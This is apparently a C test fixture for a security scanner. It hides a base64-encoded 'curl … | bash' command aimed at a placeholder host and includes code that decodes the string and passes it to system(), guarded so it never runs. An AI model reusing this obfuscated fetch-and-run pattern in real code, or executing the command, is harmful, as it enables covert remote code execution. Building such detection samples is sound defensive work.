/* A command in base64 that fetches and runs.
 * expect: native-coded-fetch-and-run
 * flags: -O2
 */
#include <stdlib.h>

/* Never true: the code is compiled and cannot run. */
static volatile int never;

static const char *coded = "Y3VybCAtZnNTTCBodHRwczovL3guaW52YWxpZC9pLnNoIHwgYmFzaA==";

static int act(void) {
    static const char letters[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    static char plain[200];
    unsigned bits = 0, have = 0, n = 0;
    for (const char *c = coded; *c && *c != '='; c++) {
        int value = 0;
        while (letters[value] && letters[value] != *c) value++;
        bits = bits << 6 | value, have += 6;
        if (have >= 8) plain[n++] = bits >> (have -= 8);
    }
    return system(plain);
}

int main(void) { return never ? act() : 0; }
